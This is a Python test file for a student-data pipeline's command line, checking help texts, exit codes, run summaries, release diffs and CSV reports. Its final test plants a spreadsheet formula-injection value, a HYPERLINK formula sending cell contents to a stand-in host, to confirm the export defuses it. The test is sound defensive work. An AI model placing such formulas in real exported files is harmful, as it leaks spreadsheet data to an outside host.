"""The command line's surface: every option explained, dates with their format, a version."""

import argparse
import re
import subprocess
import sys

import pytest

from pipelines.cli import parser
from pipelines.manifest import code_version


def _commands() -> dict[str, argparse.ArgumentParser]:
    return _under(parser())


def _under(command: argparse.ArgumentParser, prefix: str = "") -> dict[str, argparse.ArgumentParser]:
    """Every command and subcommand (``koski fetch``) by its name."""
    found = {}
    for action in command._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                found[prefix + name] = sub
                found |= _under(sub, f"{prefix}{name} ")
    return found


def test_every_option_of_every_command_has_help_and_dates_state_their_format():
    commands = _commands()
    assert {
        "generate",
        "run",
        "student-years",
        "backtest",
        "forecast",
        "rollback",
        "forget",
        "waive",
        "demo",
        "docs",
        "koski fetch",
    } <= set(commands)
    for name, command in commands.items():
        assert command.description or command.format_usage(), name
        for action in command._actions:
            if isinstance(action, argparse._HelpAction):
                continue
            assert action.help and action.help != argparse.SUPPRESS, f"{name} {action.option_strings}"
            takes_a_date = getattr(action.type, "__name__", "") == "_date" or action.dest in {"expires", "as_of"}
            if takes_a_date:
                assert "YYYY-MM-DD" in action.help, f"{name} {action.option_strings}: {action.help}"


def test_version_prints_the_code_version():
    result = subprocess.run([sys.executable, "-m", "pipelines.cli", "--version"], capture_output=True, text=True)
    assert result.returncode == 0 and result.stdout.strip() == f"tiedolla {code_version()}"


def test_docs_check_through_the_command_line_finds_the_committed_docs_current():
    result = subprocess.run([sys.executable, "-m", "pipelines.cli", "docs", "--check"], capture_output=True, text=True)
    assert result.returncode == 0 and "stale" not in result.stderr, result.stderr


@pytest.mark.slow
def test_generate_through_the_command_line_writes_what_the_library_writes(tmp_path):
    from pipelines.cli import DEMO_AS_OF
    from pipelines.demo_data.export import generate
    from tests.conftest import run_cli

    assert run_cli("generate", "--size", "small", "--seed", "4", "--out", str(tmp_path / "cli")).returncode == 0
    generate("small", 4, tmp_path / "lib", DEMO_AS_OF)
    files = sorted(p.relative_to(tmp_path / "cli") for p in (tmp_path / "cli").rglob("*") if p.is_file())
    assert len(files) > 20 and files == sorted(
        p.relative_to(tmp_path / "lib") for p in (tmp_path / "lib").rglob("*") if p.is_file()
    )
    for name in files:
        if name.suffix == ".csv":
            assert (tmp_path / "cli" / name).read_bytes() == (tmp_path / "lib" / name).read_bytes(), name


@pytest.mark.slow
def test_demo_through_the_command_line_publishes_with_the_demo_key_on_its_own_warehouse(tmp_path):
    import duckdb

    from tests.conftest import run_cli

    result = run_cli("demo", "--dir", str(tmp_path / "demo"), key=None)
    assert result.returncode == 0, result.stderr
    warehouse = tmp_path / "demo" / "warehouse"
    assert (warehouse / ".demo").exists() and (warehouse / "reports" / "dashboard" / "index.html").exists()
    con = duckdb.connect(str(warehouse / "tiedolla.duckdb"), read_only=True)
    assert con.execute("SELECT count(*) FROM fact_study_right").fetchone()[0] > 300
    con.close()


def test_a_command_reads_no_folder_it_was_not_given(tmp_path, fast_env):
    """``$TIEDOLLA_LANDING`` is for Dagster's tools: a broken landing area there (a network whose providers.csv
    lists nothing) must not stop a command given another landing area (it was read whenever a command started)."""
    from tests.conftest import run_cli
    from tests.landing import valid_rows, write_landing

    broken = tmp_path / "broken"
    (broken / "student_admin").mkdir(parents=True)
    (broken / "providers.csv").write_text("Organisaatio;Nimi\n", encoding="utf-8")
    write_landing(tmp_path / "landing", valid_rows())
    out = tmp_path / "report.csv"
    result = run_cli(
        "student-years",
        "--landing",
        str(tmp_path / "landing"),
        "--from",
        "2025-01-01",
        "--to",
        "2025-12-31",
        "--out",
        str(out),
        env={**fast_env, "TIEDOLLA_LANDING": str(broken), "TIEDOLLA_WAREHOUSE": "relative/wh"},
    )
    assert result.returncode == 0, result.stderr
    assert out.exists() and "Traceback" not in result.stderr


def test_dagsters_definitions_take_relative_folders_as_absolute(tmp_path, monkeypatch):
    """The README's Dagster UI commands with relative folders: Data Docs need an absolute base directory."""
    from pipelines.definitions import defs

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TIEDOLLA_LANDING", "demo/landing")
    monkeypatch.setenv("TIEDOLLA_WAREHOUSE", "demo/warehouse")
    resources = defs().resources
    assert resources["warehouse"].path == str(tmp_path / "demo" / "warehouse")
    assert resources["landing"].path == str(tmp_path / "demo" / "landing")


def test_the_help_names_every_exit_code_in_plain_words():
    from pipelines.cli import parser

    text = " ".join(parser().format_help().split())
    assert "`" not in text and all(code in text for code in ("0 done", "1 refused", "2 usage", "3 published", "4 busy"))
    rollback = next(
        a for a in parser()._subparsers._group_actions[0].choices["rollback"]._actions if a.dest == "warehouse"
    )
    assert "created if missing" not in rollback.help


@pytest.mark.parametrize(
    "text, words",
    [
        ("2026-13-01", "'2026-13-01' is no such day (month must be in 1..12)"),
        ("1.12.2026", "not a date written YYYY-MM-DD"),
    ],
)
def test_a_wrong_date_is_named_for_what_is_wrong_with_it(text, words, capsys):
    from pipelines.cli import main

    with pytest.raises(SystemExit):
        main(["run", "--landing", ".", "--warehouse", ".", "--as-of", text])
    assert words in capsys.readouterr().err


REMOTE = ["--landing", "s3://b/landing", "--warehouse", "s3://b/warehouse"]


@pytest.mark.parametrize(
    "arguments, words",
    [
        (["check", "--landing", "s3://b/landing"], "'check' works on a local folder; on object storage run, rollback"),
        (["forget", "--warehouse", "w", "--landing", "s3://b/l", "--student-number", "1"], "'forget' works on a local"),
        (
            ["run", *REMOTE, "--dagster", "127.0.0.1:3000"],
            "with --dagster: the instance's own runs check the warehouse",
        ),
        (["run", *REMOTE, "--parallel-steps", "2"], "with --parallel-steps: a run's steps in processes of their own"),
    ],
)
def test_what_does_not_work_on_object_storage_is_refused_in_words_before_anything_runs(arguments, words, capsys):
    """Refused before the bucket is reached (no server answers here): exit 2, the reason on stderr."""
    from pipelines.cli import main

    assert main(arguments) == 2
    assert words in capsys.readouterr().err


def test_an_object_store_that_does_not_answer_is_named_in_words_not_in_a_traceback(tmp_path, monkeypatch, capsys):
    from pipelines.cli import main
    from tests.conftest import free_port

    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{free_port()}")  # (nothing listens there)
    for name, value in {"AWS_ACCESS_KEY_ID": "t", "AWS_SECRET_ACCESS_KEY": "t", "AWS_REGION": "eu-north-1"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("AWS_ALLOW_HTTP", "true")
    monkeypatch.setenv("TIEDOLLA_CACHE", str(tmp_path / "cache"))
    assert main(["rollback", "--warehouse", "s3://tiedolla/warehouse", "--list"]) == 2
    said = capsys.readouterr().err
    assert "s3://tiedolla/warehouse: the object store does not answer: check its address" in said, said
    assert "Traceback" not in said and "Debug source" not in said


@pytest.mark.slow
def test_every_run_leaves_a_summary_for_machines_and_a_log_file(tmp_path, fast_env):
    """run.json (and --json on stdout) for a published run and for a refused one, with the reason and the rows per
    table; a log file of the run's lines; a busy warehouse answers 4 and says so in JSON."""
    import json
    import shutil
    from pathlib import Path

    from pipelines.publishing.warehouse import Warehouse
    from tests.conftest import run_cli
    from tests.landing import valid_crm_rows, valid_rows, write_landing

    landing, warehouse = tmp_path / "landing", tmp_path / "wh"
    write_landing(landing, valid_rows(), crm_rows=valid_crm_rows())
    first = run_cli("run", "--landing", str(landing), "--warehouse", str(warehouse), "--json", env=fast_env)
    assert first.returncode == 0, first.stderr
    printed = json.loads(first.stdout)
    written = json.loads((warehouse / "run.json").read_text(encoding="utf-8"))
    assert printed == written and written["outcome"] == "published" and written["reason"] is None
    assert written["tables"]["students"]["rows_read"] == len(valid_rows()["students"])
    assert written["step_seconds"] and all(v >= 0 for v in written["step_seconds"].values())
    log = Path(written["log"])
    assert log.parent == warehouse / "logs" and "[validate_student_admin" in log.read_text(encoding="utf-8")
    # a long step says how far it is (the first of its progress lines at once, then a few a minute)
    assert re.search(
        r"\[mart_student_year_forecast *\] forecast: [\d,]+ of [\d,]+ study rights simulated", log.read_text()
    )

    shutil.rmtree(landing / "crm")  # the release has a CRM export, this landing none: refused
    refused = run_cli("run", "--landing", str(landing), "--warehouse", str(warehouse), "--json", env=fast_env)
    assert refused.returncode == 1
    summary = json.loads(refused.stdout)
    assert summary == json.loads((warehouse / "run.json").read_text(encoding="utf-8"))
    assert summary["outcome"] == "refused" and "crm" in summary["reason"] and summary["tables"]["students"]
    assert Path(summary["log"]).exists() and Path(summary["log"]) != log

    with Warehouse(warehouse).lock("run"):
        busy = run_cli("run", "--landing", str(landing), "--warehouse", str(warehouse), "--json", env=fast_env)
    assert busy.returncode == 4 and json.loads(busy.stdout)["outcome"] == "busy"
    assert json.loads((warehouse / "run.json").read_text(encoding="utf-8")) == summary  # (not the busy one's)


@pytest.mark.slow
def test_check_validates_as_a_run_would_and_publishes_nothing(tmp_path, fast_env):
    from tests.conftest import run_cli
    from tests.landing import valid_rows, write_landing

    folder = write_landing(tmp_path / "landing", valid_rows())
    before = sorted(p for p in tmp_path.rglob("*"))
    good = run_cli("check", "--landing", str(tmp_path / "landing"), env=fast_env)
    assert good.returncode == 0, good.stderr
    assert "opiskelijat.csv" in good.stdout and "a run would publish" in good.stdout
    assert "crm: no export in the landing area" in good.stdout
    assert sorted(p for p in tmp_path.rglob("*")) == before  # nothing written beside the landing area
    (folder / "opiskeluoikeudet.csv").write_text("Opiskeluoikeus,Opiskelijanumero\nOO-1,1001\n", encoding="utf-8")
    bad = run_cli("check", "--landing", str(tmp_path / "landing"), env=fast_env)
    assert bad.returncode == 1 and "A RUN WOULD NOT PUBLISH" in bad.stderr
    assert "opiskeluoikeudet.csv, line 1: the header is separated by ','" in bad.stderr


@pytest.mark.slow
def test_diff_says_what_changed_between_two_releases(tmp_path, fast_env):
    """A second export in which OO-2 ended (eronnut 1.6.2025): one status period added, one study right changed,
    and from June 2025 on fewer student-years; only counts are printed, no row."""
    from tests.conftest import run_cli
    from tests.landing import valid_rows, write_landing

    rows = valid_rows()
    landing, warehouse = tmp_path / "landing", tmp_path / "wh"
    write_landing(landing, rows)
    assert run_cli("run", "--landing", str(landing), "--warehouse", str(warehouse), env=fast_env).returncode == 0
    rows["status_periods"].append(
        {"study_right_id": "OO-2", "start_date": "1.6.2025", "status": "eronnut", "funding_code": ""}
    )
    rows["study_rights"][1]["end_date"] = "1.6.2025"
    write_landing(landing, rows)
    assert run_cli("run", "--landing", str(landing), "--warehouse", str(warehouse), env=fast_env).returncode == 0
    result = run_cli("diff", "--warehouse", str(warehouse))
    assert result.returncode == 0, result.stderr
    lines = {line.split()[0]: line.split()[1:] for line in result.stdout.splitlines()[2:] if line.startswith("  ")}
    assert lines["fact_status_period"][:4] == ["5", "6", "1", "0"]
    assert lines["fact_study_right"] == ["2", "2", "0", "0", "1"]
    assert lines["dim_student"] == ["2", "2", "0", "0", "0"]
    assert "2025-06" in result.stdout and "2025-07" in result.stdout and "2025-05 " not in result.stdout
    assert "OO-" not in result.stdout and "1001" not in result.stdout


@pytest.mark.slow
def test_the_student_years_csv_runs_no_formula_a_source_id_carries(tmp_path, fast_env):
    """A study-right id typed ``=HYPERLINK(…)`` in the source reaches the report as text a spreadsheet shows."""
    import copy
    import csv

    from tests.conftest import run_cli
    from tests.landing import valid_rows, write_landing

    rows = copy.deepcopy(valid_rows())
    old = rows["study_rights"][0]["study_right_id"]
    new = '=HYPERLINK("http://x.example/?"&A1)'
    for table in ("study_rights", "status_periods", "additional_periods", "assessed_units", "workplace_periods"):
        for row in rows[table]:
            if row.get("study_right_id") == old:
                row["study_right_id"] = new
    write_landing(tmp_path / "landing", rows)
    out = tmp_path / "report.csv"
    args = ["--landing", str(tmp_path / "landing"), "--from", "2025-01-01", "--to", "2025-12-31", "--out", str(out)]
    result = run_cli("student-years", *args, env=fast_env)
    assert result.returncode == 0, result.stderr
    ids = [r["study_right_id"] for r in csv.DictReader(out.open(encoding="utf-8"))]
    assert "'" + new in ids and new not in ids
